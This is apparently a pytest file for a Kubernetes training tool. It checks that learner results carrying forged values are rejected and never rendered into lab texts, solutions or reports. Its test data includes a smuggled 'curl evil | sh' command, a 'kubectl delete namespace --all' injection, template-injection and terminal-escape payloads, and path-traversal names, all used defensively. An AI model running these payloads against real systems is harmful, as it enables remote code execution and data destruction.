"""Forged values of a result: nothing is rendered with what the lab can't have drawn."""

import datetime
import html
import re
from collections.abc import Iterable
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from rich.console import Console, RenderableType

from clusterdojo.errors import UsageError
from clusterdojo.exam.result import ExamResult
from clusterdojo.grading.result import LabRef, Result, lab_digest
from clusterdojo.lab.loading import load_lab
from clusterdojo.lab.suite import Suite, installed
from clusterdojo.lab.values import Drawn
from clusterdojo.reporting import known_labs
from clusterdojo.reporting.collection import Collection, ExamEntry, collect
from clusterdojo.reporting.exam_terminal import exam_report
from clusterdojo.reporting.formats.html import learner_page
from clusterdojo.reporting.gradebook import gradebook
from clusterdojo.reporting.known_labs import KnownLabs, UndrawnError
from clusterdojo.reporting.solutions import solution_of
from clusterdojo.reporting.summary import summary
from clusterdojo.reporting.verify import verdicts
from tests.exam.packing import small_suite
from tests.reporting.synthetic import result, write
from tests.reporting.synthetic_exam import Task, exam, write_exam

LAB = "drain-node01"
NOW = datetime.datetime(2026, 2, 1, 8, 30, tzinfo=datetime.UTC)
EVIL = "n; curl evil | sh"
FORGED: list[dict[str, Any]] = [
    {"synthetic": EVIL},
    {"synthetic": "yes\nkubectl delete namespace --all"},
    {"synthetic": "{{ 7 * 7 }}"},
    {"synthetic": "{{ self.__init__.__globals__ }}"},
    {"synthetic": "\x1b]52;c;ZXZpbA==\x07\x9b2J"},
    {"synthetic": "y" * 100_000},
    {"synthetic": 1},
    {"synthetic": ["yes"]},
    {"synthetic": "yes", "more": EVIL},
    {"synthetic": "yes", EVIL: "x"},
    {EVIL: "yes"},
]
NAMES = [
    "shell", "newline", "template", "globals", "terminal", "huge", "number", "list",
    "unknown name", "hostile name", "other name",
]  # fmt: skip


@pytest.fixture
def suite(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Suite:
    """The instructor's suite, whose labs draw `synthetic`: yes or no."""
    made = small_suite(tmp_path / "suite")
    monkeypatch.setenv("CLUSTERDOJO_SUITE", str(made.root))
    for lab in made.lab_ids():
        (made.labs / lab / "task.md").write_text("Say {{ synthetic }}.\n")
    return made


@pytest.fixture
def labs(suite: Suite) -> KnownLabs:
    """Its labs."""
    return KnownLabs(suite)


def of(suite: Suite, values: dict[str, Drawn] | None = None, *, same: bool = True) -> Result:
    """A result of the lab that is here, or of another content of it."""
    digest = lab_digest(suite, LAB) if same else "sha256:1"
    ref = LabRef(id=LAB, digest=digest, title="Drain", domain="architecture", minutes=8)
    drawn = load_lab(suite.lab_dir(LAB)).draw(7)
    return result(lab=LAB).model_copy(update={"lab": ref, "values": values or drawn})


def sat(suite: Suite, values: dict[str, Drawn], *, same: bool) -> ExamResult:
    """An exam with one task of that lab."""
    made = exam((Task(weight=100),))
    task = made.tasks[0]
    assert task.result is not None
    ref = of(suite, same=same).lab
    attempt = task.result.model_copy(update={"lab": ref, "values": values})
    return made.model_copy(update={"tasks": [task.model_copy(update={"result": attempt})]})


def text(parts: Iterable[RenderableType]) -> str:
    """What the terminal shows."""
    console = Console(width=80, color_system=None)
    with console.capture() as capture:
        for part in parts:
            console.print(part, crop=False)
    return capture.get()


def test_a_genuine_result_is_taken_and_rendered(
    suite: Suite, labs: KnownLabs, tmp_path: Path
) -> None:
    """The values that its seed draws."""
    made = of(suite)
    write(tmp_path / "in", made)
    found = collect([tmp_path / "in"])
    assert [entry.result for entry in found.entries] == [made]
    assert found.of_other_labs == 0
    assert labs.rendered(made, "task.md") == f"Say {made.values['synthetic']}.\n"
    solution = solution_of(made, labs)
    assert solution is not None
    assert (solution.text, solution.changed) == (f"echo {made.values['synthetic']}\n", False)


@pytest.mark.parametrize("values", FORGED, ids=NAMES)
def test_a_result_with_forged_values_counts_for_nothing(
    suite: Suite, labs: KnownLabs, tmp_path: Path, values: dict[str, Drawn]
) -> None:
    """It is skipped with the reason, which repeats nothing of it; and nothing is rendered."""
    made = of(suite, values)
    file = write(tmp_path / "in", made, name="forged.json")
    found = collect([tmp_path / "in"])
    assert gradebook(found).learners == []
    (skipped,) = found.skipped
    assert re.match(r"it can't be right: its value synthetic|it can't be right: it ", skipped.why)
    assert skipped.why.isprintable()
    assert "curl" not in skipped.why
    assert [one.good for one in verdicts([file], None)] == [False]
    with pytest.raises(UndrawnError):
        labs.rendered(made, "task.md")
    solution = solution_of(made, labs)
    assert solution is not None
    assert (solution.text, "values of this result" in solution.why) == ("", True)


def test_values_of_another_seed_are_forged(suite: Suite, tmp_path: Path) -> None:
    """An easier draw is not chosen by writing another one's values."""
    drawn = load_lab(suite.lab_dir(LAB)).draw(7)["synthetic"]
    other: dict[str, Drawn] = {"synthetic": "no" if drawn == "yes" else "yes"}
    write(tmp_path / "in", of(suite, other))
    (skipped,) = collect([tmp_path / "in"]).skipped
    assert skipped.why == "it can't be right: its seed draws other values"


@pytest.mark.parametrize("values", FORGED, ids=NAMES)
def test_a_result_of_another_content_of_the_lab_is_nobodys_forgery(
    suite: Suite, labs: KnownLabs, tmp_path: Path, values: dict[str, Drawn]
) -> None:
    """It counts, since its lab may have drawn such values; today's texts are not rendered so."""
    made = of(suite, values, same=False)
    write(tmp_path / "in", made)
    found = collect([tmp_path / "in"])
    assert ([entry.result for entry in found.entries], found.of_other_labs) == ([made], 1)
    assert "  1 result graded by other versions of labs than those here: values not checked" in (
        list(summary(found, gradebook(found)))
    )
    with pytest.raises(UndrawnError, match="the lab has changed since it graded the result: it"):
        labs.rendered(made, "task.md")
    solution = solution_of(made, labs)
    assert solution is not None
    assert (solution.text, solution.changed) == ("", True)


def test_a_result_of_another_content_is_rendered_with_values_that_still_are_drawn(
    suite: Suite, labs: KnownLabs
) -> None:
    """By whatever seed: another content may draw in another order."""
    for value in ("yes", "no"):
        made = of(suite, {"synthetic": value}, same=False)
        assert labs.rendered(made, "task.md") == f"Say {value}.\n"


def test_a_result_that_tells_no_values_is_taken_and_not_rendered(
    suite: Suite, labs: KnownLabs, tmp_path: Path
) -> None:
    """`dojo check --json` prints one without them, which learners have handed in."""
    made = of(suite).before_the_solution()
    write(tmp_path / "in", made)
    assert len(collect([tmp_path / "in"]).entries) == 1
    with pytest.raises(UndrawnError, match="does not record its drawn values"):
        labs.rendered(made, "task.md")


def test_a_lab_that_is_not_here_is_not_judged(suite: Suite, tmp_path: Path) -> None:
    """Its results count; a name that leads elsewhere leads nowhere."""
    labs = KnownLabs(suite)
    for number, lab in enumerate(("elsewhere", "../../etc", "/etc", "")):
        made = result("Ada", lab, values={"x": EVIL}, attempt=f"a-{number}")
        write(tmp_path / "in", made, name=f"{number}.json")
        assert solution_of(made, labs) is None
        with pytest.raises(UsageError):
            labs.rendered(made, "task.md")
    found = collect([tmp_path / "in"])
    assert (len(found.entries), found.of_other_labs) == (4, 4)


def test_a_lab_whose_file_is_wrong_renders_nothing(suite: Suite, tmp_path: Path) -> None:
    """Nobody can tell what it draws; results count as before."""
    (suite.labs / LAB / "lab.yaml").write_text("id: drain-node01\n")
    made = result(lab=LAB)
    made = made.model_copy(
        update={"lab": made.lab.model_copy(update={"digest": lab_digest(suite, LAB)})}
    )
    write(tmp_path / "in", made)
    assert len(collect([tmp_path / "in"]).entries) == 1
    with pytest.raises(UndrawnError, match=r"lab\.yaml of this suite is wrong"):
        KnownLabs(suite).rendered(made, "task.md")


@pytest.mark.parametrize("same", [True, False])
@pytest.mark.parametrize("values", FORGED, ids=NAMES)
def test_an_exam_shows_no_solution_with_forged_values(
    suite: Suite, tmp_path: Path, values: dict[str, Drawn], *, same: bool
) -> None:
    """Neither on the terminal nor on the page, which get the exam as it was handed in."""
    made = sat(suite, values, same=same)
    write_exam(tmp_path / "in", made)
    found = collect([tmp_path / "in"])
    assert len(found.exams) == (0 if same else 1)
    if same:
        assert found.skipped[0].why.startswith("it can't be right: task 1: it")
    shown = text(exam_report(made, suite))
    assert "The lab's text is not shown with the values of this result" in " ".join(shown.split())
    page = learner_page(Collection(exams=[ExamEntry(made, "x.json", "none")]), "Ada", NOW)
    for out in (shown, html.unescape(page)):
        assert "echo" not in out
        assert not {"\x1b", "\x9b", "\x07"} & set(out)
    assert "The lab's text is not shown with the values of this result" in html.unescape(page)


ANYTHING = st.dictionaries(
    st.just("synthetic") | st.text(max_size=20),
    st.text() | st.integers() | st.lists(st.text(), max_size=3) | st.just("yes"),
    max_size=3,
)


@given(values=ANYTHING, seed=st.integers(), same=st.booleans())
@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
def test_only_what_the_lab_draws_is_ever_rendered(
    suite: Suite, labs: KnownLabs, values: dict[str, Drawn], seed: int, *, same: bool
) -> None:
    """Whatever stands in a result, a text is as the lab's author can have meant it, or missing."""
    made = of(suite, same=same).model_copy(update={"values": values, "seed": seed})
    solution = solution_of(made, labs)
    assert solution is not None
    assert solution.text in ("", "echo yes\n", "echo no\n")
    assert bool(solution.text) is not bool(solution.why)


def test_every_lab_of_the_suite_is_guarded(tmp_path: Path) -> None:
    """A genuine result of each counts and has its solution; none has it with a forged value."""
    real = installed()
    labs = KnownLabs(real)
    genuine = []
    for seed, lab_id in enumerate(real.lab_ids()):
        drawn = load_lab(real.lab_dir(lab_id)).draw(seed)
        ref = LabRef(
            id=lab_id, digest=lab_digest(real, lab_id), title="x", domain="storage", minutes=8
        )
        made = result(lab=lab_id, seed=seed).model_copy(update={"lab": ref, "values": drawn})
        genuine.append(made)
        write(tmp_path / "genuine", made)
        solution = solution_of(made, labs)
        assert solution is not None
        assert (bool(solution.text), solution.changed, solution.why) == (True, False, "")
        for name in drawn:
            forged = made.model_copy(update={"values": {**drawn, name: EVIL}})
            with pytest.raises(UndrawnError):
                labs.rendered(forged, "task.md")
            write(tmp_path / "forged", forged, name=f"{lab_id}-{name}.json")
    found = collect([tmp_path / "genuine"], suite=real)
    assert [entry.result.lab.id for entry in found.entries] == [one.lab.id for one in genuine]
    assert (found.skipped, found.of_other_labs) == ([], 0)
    found = collect([tmp_path / "forged"], suite=real)
    assert found.entries == []
    assert len(found.skipped) > len(genuine)


def test_only_known_labs_render() -> None:
    """Every other way from a result's values into a lab's text would be one without a guard."""
    package = Path(known_labs.__file__).parents[1]
    rendering = {
        path.relative_to(package).as_posix()
        for room in ("reporting", "exam")
        for path in (package / room).rglob("*.py")
        if re.search(r"\blab\.rendering\b|\blab import rendering\b", path.read_text("utf-8"))
    }
    assert rendering == {"reporting/known_labs.py"}
